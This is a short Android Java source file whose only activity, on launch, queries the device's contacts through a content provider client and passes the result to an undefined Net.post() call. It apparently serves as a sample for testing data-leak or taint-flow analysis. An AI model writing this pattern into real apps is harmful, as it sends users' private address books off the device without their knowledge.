package com.example.flows.contacts_client;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** The address book is read through a provider client. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            ContentProviderClient client = getContentResolver().acquireContentProviderClient(ContactsContract.Contacts.CONTENT_URI);
            Cursor cursor = client.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
            Net.post(cursor.getString(0));
        } catch (RemoteException e) {
            finish();
        }
    }

}
